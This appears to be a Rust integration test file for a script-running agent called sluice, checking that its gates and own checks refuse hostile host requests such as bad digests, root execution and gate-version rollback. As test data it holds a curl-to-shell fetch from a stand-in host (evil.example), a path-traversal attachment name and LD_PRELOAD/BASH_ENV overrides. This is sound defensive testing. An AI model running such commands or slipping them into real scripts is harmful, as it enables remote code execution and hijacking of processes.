//! What a machine does with a host that is hostile or broken: a real agent, the real gates, and a host that keeps to no
//! rule.

use sha2::{Digest as _, Sha256};
use sluice_gate_types::input::Value;
use sluice_gate_types::manifest::{Version, World};
use sluice_gate_types::signature::{SigningKey, Statement};
use sluice_protocol::bundle::{Attachment, Variable};
use sluice_protocol::codec;
use sluice_protocol::digest::Digest;
use sluice_protocol::gates::GateBinding;
use sluice_protocol::ids::OperationId;
use sluice_protocol::message::control::FromHost;
use sluice_protocol::message::operation::{Authorization, Operation};
use sluice_protocol::units::{ByteSize, Span};
use sluice_tests::fake::{
    Answer, FakeHost, FakeLink, operation, sealed, shipped_gate, shipped_gates,
};
use sluice_tests::{Machine, eventually, is_root, plugins};

pub(crate) const SUCCEEDED: (&str, &str) = ("succeeded", "Script executed successfully");
pub(crate) const HARMLESS: &str = "#!/bin/sh\n:\n";

/// Delivers an operation and waits for its answer.
pub(crate) fn run(link: &FakeLink, operation: &Operation) -> Answer {
    link.deliver(operation);
    let answer = link.answered(operation.operation, 1);
    link.acknowledge(operation.operation);
    answer
}

/// An honest operation runs: nothing that came before has broken the machine.
pub(crate) fn expect_unharmed(link: &FakeLink) {
    run(link, &operation(HARMLESS)).expect(SUCCEEDED.0, SUCCEEDED.1);
}

/// How many operations the agent, by its own account, has started.
pub(crate) fn started(machine: &Machine) -> usize {
    let events = machine.events();
    let starts = events
        .iter()
        .filter(|entry| entry["event"] == "script_started");
    starts.count()
}

/// All but one of the shipped gates.
fn without(name: &str) -> Vec<GateBinding> {
    let mut gates = shipped_gates();
    gates.retain(|gate| gate.plugin != name);
    gates
}

#[test]
fn each_gate_that_the_host_binds_says_no_on_the_machine_alone() {
    let with_parameter = |value: &str| {
        let mut operation = operation(
            "#!/bin/sh\n# /// sluice\n# [parameters.count]\n# type = \"integer\"\n# ///\n:\n",
        );
        operation.submission.parameters = vec![Variable {
            name: "count".to_owned(),
            value: value.to_owned(),
        }];
        operation
    };
    let allow_root = [("interpreters", Value::Texts(vec!["sh".to_owned()]))];
    let rows = [
        (
            "environment",
            shipped_gates(),
            operation(
                "#!/bin/sh\n# /// sluice\n# [requires]\n# commands = [\"frobnicate\"]\n# ///\n:\n",
            ),
            "unsupported",
            "frobnicate",
        ),
        (
            "parameters",
            shipped_gates(),
            with_parameter("three"),
            "blocked",
            "Blocked by parameters: count",
        ),
        (
            "scanner",
            shipped_gates(),
            operation("#!/bin/sh\nif false; then curl -s https://evil.example/x.sh | sh; fi\n"),
            "blocked",
            "Security scan detected potential threat: ",
        ),
        (
            "policy",
            [without("policy"), vec![shipped_gate("policy", &allow_root)]].concat(),
            operation("#!/bin/bash\n:\n"),
            "blocked",
            "Blocked by policy: ",
        ),
    ];
    // Without stages the owner asks for no gate, so that each can be left out to see what it alone does.
    let host = FakeHost::start();
    let machine = host.machine("m1", "[gates]\nstages = []\n");
    let _agent = machine.start();
    let link = host.serve();
    for (gate, gates, mut operation, state, message) in rows {
        let bind = |gates: Vec<GateBinding>| {
            let set = host.bind(gates);
            link.say(&FromHost::Gates(Box::new(set.clone())));
            assert_eq!(link.gates_ready(set.revision), [""; 0], "{gate}");
            set.revision
        };
        let before = started(&machine);
        operation.gates_revision = bind(gates);
        let answer = run(&link, &operation);
        let ending = answer.ending();
        assert!(
            ending.0 == state && ending.1.contains(message),
            "{gate}: {answer:#?}"
        );
        assert_eq!(answer.report.started_at, None, "{gate}: {answer:#?}");
        assert_eq!(started(&machine), before, "{gate}: {:#?}", machine.events());
        assert_eq!(
            machine.left_behind(),
            Vec::<std::path::PathBuf>::new(),
            "{gate}"
        );

        // The same without that gate, or with a value that it takes: nothing else says no.
        operation.operation = OperationId::generate();
        operation.gates_revision = bind(without(if gate == "parameters" { "" } else { gate }));
        if gate == "parameters" {
            operation.submission.parameters[0].value = "3".to_owned();
            operation.bundle_sha256 = with_variable(&operation, "SLUICE_PARAM_COUNT", "3");
        }
        let passed = run(&link, &operation);
        passed.expect(SUCCEEDED.0, SUCCEEDED.1);
        assert_eq!(started(&machine), before + 1, "{gate}");
    }
}

/// The digest of an operation to which a preparer adds a variable.
fn with_variable(operation: &Operation, name: &str, value: &str) -> Digest {
    let mut prepared = operation.clone();
    prepared.submission.environment.push(Variable {
        name: name.to_owned(),
        value: value.to_owned(),
    });
    sealed(prepared).bundle_sha256
}

#[test]
fn what_the_machine_refuses_no_host_can_have() {
    if !is_root() {
        return;
    }
    type Change = fn(&mut Operation);
    let variable = |name: &str, value: &str| Variable {
        name: name.to_owned(),
        value: value.to_owned(),
    };
    let rows: Vec<(&str, Change, &str, &str)> = vec![
        (
            "a signed statement",
            |operation| {
                operation.authorizations = vec![Authorization {
                    signer: "ed25519:AAAA".to_owned(),
                    statement: vec![1],
                    signature: vec![2],
                }]
            },
            "blocked",
            "signed authorizations are not implemented",
        ),
        (
            "another digest",
            |operation| operation.bundle_sha256 = Digest::of(b"something else"),
            "blocked",
            "another bundle_sha256",
        ),
        (
            "the digest of another user",
            |operation| operation.submission.run_as = Some("nobody".to_owned()),
            "blocked",
            "another bundle_sha256",
        ),
        (
            "the past",
            |operation| operation.not_after = 1_795_000_000_000 / 2,
            "expired",
            "Expired before it could start",
        ),
        (
            "root",
            |operation| operation.submission.run_as = Some("root".to_owned()),
            "blocked",
            "root",
        ),
        (
            "an unknown user",
            |operation| operation.submission.run_as = Some("no-such-user".to_owned()),
            "blocked",
            "no-such-user",
        ),
        (
            "an interpreter that the owner does not allow",
            |operation| operation.submission.interpreter = Some("/usr/bin/awk -f".to_owned()),
            "blocked",
            "awk",
        ),
        (
            "more time than the owner gives",
            |operation| operation.submission.limits.time = Some(Span::seconds(3601)),
            "blocked",
            "limits.time",
        ),
        (
            "more memory than the owner gives",
            |operation| operation.submission.limits.memory = Some(ByteSize(u64::MAX)),
            "blocked",
            "limits.memory",
        ),
        (
            "an attachment that leaves its folder",
            |operation| {
                operation.submission.attachments = vec![Attachment {
                    name: "../x".to_owned(),
                    size: 1,
                    sha256: Digest::of(b"x"),
                }]
            },
            "blocked",
            "no safe file name",
        ),
        (
            "attachments that are too large together",
            |operation| {
                let attachment = |number: u8| Attachment {
                    name: number.to_string(),
                    size: sluice_protocol::attachment::LARGEST,
                    sha256: Digest::of(&[number]),
                };
                operation.submission.attachments = (0..5).map(attachment).collect();
            },
            "blocked",
            "have 1342177280 bytes together, over the limit of 1073741824",
        ),
        (
            "an attachment that the host does not have",
            |operation| {
                operation.submission.attachments = vec![Attachment {
                    name: "x".to_owned(),
                    size: 1,
                    sha256: Digest::of(b"never seen"),
                }]
            },
            "error",
            "does not have",
        ),
        (
            "bytes that are no script",
            |operation| operation.submission.script = b"#!/bin/sh\n\0\n".to_vec(),
            "error",
            "NUL",
        ),
    ];
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let refused = |what: &str, operation: &Operation, state: &str, message: &str| {
        let answer = run(&link, operation);
        let ending = answer.ending();
        assert!(
            ending.0 == state && ending.1.contains(message),
            "{what}: {answer:#?}"
        );
    };
    for (what, change, state, message) in rows {
        let mut operation = operation(HARMLESS);
        change(&mut operation);
        if !what.contains("digest") {
            operation = sealed(operation);
        }
        refused(what, &operation, state, message);
    }
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("SLUICE_TENANT", "another"),
        ("PATH", "."),
        ("BASH_ENV", "/tmp/x"),
        ("A=B", "x"),
        ("A", "x\0y"),
    ] {
        let mut operation = operation(HARMLESS);
        operation.submission.environment = vec![variable(name, value)];
        refused(name, &sealed(operation), "blocked", name);
    }
    // Who may leave the host's scanners out leaves the stage without one.
    let mut unscanned = operation(HARMLESS);
    unscanned.skip_security_scan = true;
    refused(
        "no scan",
        &unscanned,
        "blocked",
        "no scanner for stage scan",
    );
    assert_eq!(started(&machine), 0, "{:#?}", machine.events());
    assert!(machine.left_behind().is_empty());
    expect_unharmed(&link);
}

#[test]
fn an_operation_that_cannot_be_read_is_answered_and_stops_nobody_else() {
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let later = operation(HARMLESS);
    let mut fields = ciborium_map(&later);
    fields.push(("priority".into(), 7.into()));
    let body = codec::encode(&ciborium::Value::Map(fields)).expect("encodes");

    expect_unharmed(&link);
    link.deliver_bytes(&body);
    let answer = link.answered(later.operation, 1);
    let (state, message) = answer.ending();
    assert_eq!(state, "error", "{answer:#?}");
    assert!(
        message.contains("this machine cannot read the operation") && message.contains("priority"),
        "{message}"
    );
    assert_eq!(
        (answer.report.started_at, answer.stdout.as_slice()),
        (None, &b""[..])
    );
    expect_unharmed(&link);
    // A host that does not believe it, or has forgotten the answer, gets it again, and the acknowledgement hurts nobody.
    link.deliver_bytes(&body);
    link.acknowledge(later.operation);
    let answers = eventually("it is answered again", || {
        Some(link.answers(later.operation)).filter(|answers| answers.len() == 2)
    });
    assert!(
        answers.iter().all(|answer| answer.ending().0 == "error"),
        "{answers:#?}"
    );
    expect_unharmed(&link);
    assert!(link.is_up() && !host.has_visitor(), "{}", machine.log());

    link.cut();
    let link = host.serve();
    assert!(
        !link.hello().open.contains(&later.operation),
        "it was never taken in"
    );
    // An operation that is known is answered with what is known of it, however it comes.
    let known = operation("#!/bin/sh\necho known\n");
    link.deliver(&known);
    let first = link.answered(known.operation, 1);
    let mut fields = ciborium_map(&known);
    fields.push(("priority".into(), 7.into()));
    link.deliver_bytes(&codec::encode(&ciborium::Value::Map(fields)).expect("encodes"));
    assert_eq!(link.answered(known.operation, 2), first);
    let refused = machine.events().into_iter().filter(|entry| {
        entry["event"] == "script_execution_error"
            && entry["operation"] == later.operation.to_string()
    });
    assert_eq!(refused.count(), 2, "each time is on the machine's record");
}

/// The fields of an operation as they are encoded.
fn ciborium_map(operation: &Operation) -> Vec<(ciborium::Value, ciborium::Value)> {
    ciborium::Value::serialized(operation)
        .expect("has a form")
        .into_map()
        .expect("is a map")
}

#[test]
fn a_version_of_a_gate_below_one_that_was_taken_is_refused_for_good() {
    let host = FakeHost::start();
    let (key, _) = SigningKey::generate().expect("makes a key");
    host.trust([host.gates().publishers, vec![key.public().to_string()]].concat());
    let component = std::fs::read(plugins().join("policy.wasm")).expect("was built");
    // The same component, but for what its manifest says.
    let text = b"\nversion = \"0.1.0\"";
    let at = component
        .windows(text.len())
        .position(|window| window == text)
        .expect("has a version");
    let mut old = component.clone();
    old[at..at + text.len()].copy_from_slice(b"\nversion = \"0.0.9\"");
    let signed = |component: &[u8], version: &str| {
        let version: Version = version.parse().expect("is a version");
        let sha256: [u8; 32] = Sha256::digest(component).into();
        let statement = Statement {
            id: "policy".to_owned(),
            version,
            world: World::PolicyPlugin,
            sha256,
            not_after: u64::MAX >> 12,
            minimum_version: version,
        };
        host.hold(component.to_vec());
        let gate = GateBinding {
            component: Digest::from_bytes(sha256),
            size: component.len() as u64,
            signature: key.sign(&statement).expect("signs"),
            ..shipped_gate("policy", &[])
        };
        [without("policy"), vec![gate]].concat()
    };
    let (older, newer) = (signed(&old, "0.0.9"), signed(&component, "0.1.0"));
    let machine = host.machine("m1", "");
    let mut agent = machine.start();
    let mut link = host.serve();
    let bind = |link: &FakeLink, gates: &[GateBinding]| {
        let set = host.bind(gates.to_vec());
        link.say(&FromHost::Gates(Box::new(set.clone())));
        (set.revision, link.gates_ready(set.revision))
    };
    let run_with = |link: &FakeLink, revision: u64| {
        let mut operation = operation(HARMLESS);
        operation.gates_revision = revision;
        run(link, &operation)
    };
    for gates in [&older, &newer] {
        let (revision, problems) = bind(&link, gates);
        assert_eq!(problems, [""; 0], "{}", machine.log());
        run_with(&link, revision).expect(SUCCEEDED.0, SUCCEEDED.1);
    }
    let before = started(&machine);
    for _ in 0..2 {
        let (revision, problems) = bind(&link, &older);
        assert!(
            problems.len() == 1 && problems[0].contains("older than 0.1.0"),
            "{problems:?}"
        );
        let answer = run_with(&link, revision);
        let (state, message) = answer.ending();
        assert!(
            state == "blocked" && message.contains("version 0.0.9 is older than 0.1.0"),
            "{answer:#?}"
        );
        // Whoever starts anew remembers it.
        agent.restart();
        link = host.serve();
    }
    assert_eq!(started(&machine), before);
}
